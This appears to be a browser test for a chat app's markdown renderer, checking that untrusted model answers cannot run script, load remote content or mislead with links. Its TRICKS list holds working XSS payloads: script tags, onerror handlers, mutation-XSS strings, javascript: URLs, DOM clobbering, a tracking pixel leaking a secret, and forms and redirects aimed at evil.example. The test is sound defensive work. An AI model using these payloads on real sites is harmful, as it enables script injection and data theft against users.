// A model's answer is untrusted. Each trick here arrives as an answer would: streamed by the server's reply (answered in its place), and kept in the
// tab's storage across a reload. It may appear; it may not run, load, ask, cover the page, or lead somewhere other than it says. Prints TAP.
import assert from 'node:assert/strict';
import { lacking, sleep, Server, startBrowser, Tap, until, Watched } from './harness.mjs';

const why = lacking();
if (why) {
  console.log(`1..0 # SKIP ${why}`);
  process.exit(0);
}

const TRICKS = {
  'a script': '<script>window.owned = 1; fetch("https://evil.example/s")</script>',
  'a script in a block of text': 'Hello <script src="https://evil.example/x.js"></script> there',
  'a picture with a handler': '<img src=x onerror="window.owned=1">',
  'a picture that would tell': '![tracker](https://evil.example/pixel.png?secret=1)',
  'a picture by reference': '![a][b]\n\n[b]: https://evil.example/p.png',
  'svg': '<svg onload="window.owned=1"><script>window.owned=1</script><use href="https://evil.example/s.svg#x"/></svg>',
  'math and mutation': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.owned=1&gt;">',
  'noscript mutation': '<noscript><p title="</noscript><img src=x onerror=window.owned=1>">',
  'a frame': '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
  'an object': '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  'a style': '<style>@import url(https://evil.example/x.css); body{display:none}</style><p style="position:fixed;inset:0;background:url(https://evil.example/y)">x</p>',
  'a form': '<form action="https://evil.example/"><input name="p" autofocus onfocus="window.owned=1"><button>Go</button></form>',
  'a base and a meta': '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/z.css">',
  'a script address': '[click](javascript:window.owned=1) [click](JaVa&#x73;cript:window.owned=1) [click](data:text/html,<script>window.owned=1</script>)',
  'a script address with a tab': '[click](java\tscript:window.owned=1) <javascript:window.owned=1> [x](&#106;avascript:window.owned=1)',
  'a handler in a link': '[x](https://good.example/"onmouseover="window.owned=1) [y](https://good.example "t\\" onclick=\\"window.owned=1")',
  'a disguised link': '[https://bank.example/login](https://evil.example/login)',
  'a link of our own API': '[sign out](/api/v1/session) [x](#/models) [y](//evil.example/)',
  'clobbering': '<a id="app" name="location">x</a><form id="document"><input name="cookie"></form><div class="away composer" id="main">gone</div>',
  'an attribute in a fence': '```"><img src=x onerror=window.owned=1>\ncode\n```',
  'a table cell': '| a |\n|---|\n| <img src=x onerror=window.owned=1> |',
  'deep nesting': '>'.repeat(400) + ' x\n\n' + '['.repeat(2000) + 'x' + ']'.repeat(2000),
  'deep lists': Array.from({ length: 200 }, (_, i) => '  '.repeat(i) + '- x').join('\n'),
  'markers without end': '*_'.repeat(3000) + '`'.repeat(3001) + '<!--',
  'control and direction marks': 'a\u202egnp.exe\u0000\u001b[31m \u2066x',
};

const tap = new Tap();
const server = await Server.create();
const browser = await startBrowser();
const w = await Watched.open(browser, server);
const { page } = w;

await page.goto(server.link());
await page.locator('.try-now .button.primary').click();
await page.locator('.composer textarea').waitFor();

let reply = '';
await page.route('**/v1/chat/completions', (route) => {
  const words = reply.match(/[\s\S]{1,7}/g) ?? [];
  const event = (o) => `data: ${JSON.stringify(o)}\n\n`;
  const body = words.map((content) => event({ choices: [{ delta: { content } }] })).join('') + event({ choices: [{ delta: {}, finish_reason: 'stop' }] }) + 'data: [DONE]\n\n';
  return route.fulfill({ status: 200, contentType: 'text/event-stream', body });
});

async function inspect(shown) {
  await sleep(30);
  const found = await shown.evaluate((root) => {
    const body = root.querySelector('.markdown');
    const allowed = new Set(['P', 'BR', 'HR', 'H1', 'H2', 'H3', 'H4', 'H5', 'H6', 'UL', 'OL', 'LI', 'BLOCKQUOTE', 'PRE', 'CODE', 'EM', 'STRONG', 'DEL', 'TABLE', 'THEAD', 'TBODY', 'TR', 'TH', 'TD',
      'A', 'SPAN', 'DIV', 'BUTTON', 'svg', 'path']);
    const bad = [];
    for (const e of body.querySelectorAll('*')) {
      if (!allowed.has(e.tagName)) bad.push(e.tagName);
      for (const a of e.attributes) if (/^on|^style$|^id$|^name$|^src/i.test(a.name)) bad.push(`${e.tagName} ${a.name}`);
      if (e.tagName === 'BUTTON' && !e.closest('.code-bar')) bad.push('BUTTON');
      if (e.tagName === 'A' && (!/^https?:/.test(e.href) || !/noopener/.test(e.rel) || e.target !== '_blank')) bad.push(`A ${e.outerHTML}`);
      if (e.tagName === 'A') {
        const said = e.textContent.match(/https?:\/\/([^/\s]+)/)?.[1] ?? '';
        const beside = e.nextElementSibling?.classList.contains('target') ? e.nextElementSibling.textContent : '';
        if (said !== e.host && !beside.includes(e.host)) bad.push(`A hides ${e.host}`);
      }
    }
    return { bad, owned: window.owned, text: body.textContent };
  });
  assert.deepEqual(found.bad, []);
  assert.equal(found.owned, undefined);
  assert.ok(found.text.length > 0, 'nothing appeared');
  assert.ok(await page.locator('.top nav').isVisible());
  assert.deepEqual(w.wrong, []);
}

/** One more answer, which is that. */
async function answer(markdown) {
  const done = page.locator('.answer[data-state="done"]');
  const before = await done.count();
  reply = markdown;
  await page.locator('.composer textarea').fill('x');
  await page.keyboard.press('Enter');
  await until('an answer that has ended', async () => (await done.count()) === before + 1);
  return done.last();
}

for (const [name, markdown] of Object.entries(TRICKS)) {
  await tap.check(`${name} does nothing but appear`, async () => inspect(await answer(markdown)));
}

await tap.check('nor after a reload, from the tab\'s storage', async () => {
  await page.reload();
  await page.locator('.answer .markdown').first().waitFor();
  await sleep(300);
  assert.equal(await page.locator('.answer').count(), Object.keys(TRICKS).length);
  for (const kept of await page.locator('.answer').all()) await inspect(kept);
});

await tap.check('a link opens elsewhere without a word about us', async () => {
  const shown = await answer('[shown](https://good.example/)');
  await w.forgiving(/popup|request: https:\/\/good\.example/, async () => {
    const [popup] = await Promise.all([w.context.waitForEvent('page'), shown.getByRole('link').click()]);
    assert.equal(await popup.evaluate(() => window.opener).catch(() => null), null);
    await sleep(200);
  });
  assert.ok(page.url().startsWith(server.url));
});

await tap.check('markup cannot reach the page by any other way', async () => {
  const refused = await page.evaluate(() => {
    try {
      document.body.insertAdjacentHTML('beforeend', '<i>x</i>');
      return false;
    } catch {
      return true;
    }
  });
  assert.ok(refused, 'the document took a string as markup');
});

await browser.close();
await server.end();
process.exit(tap.end());
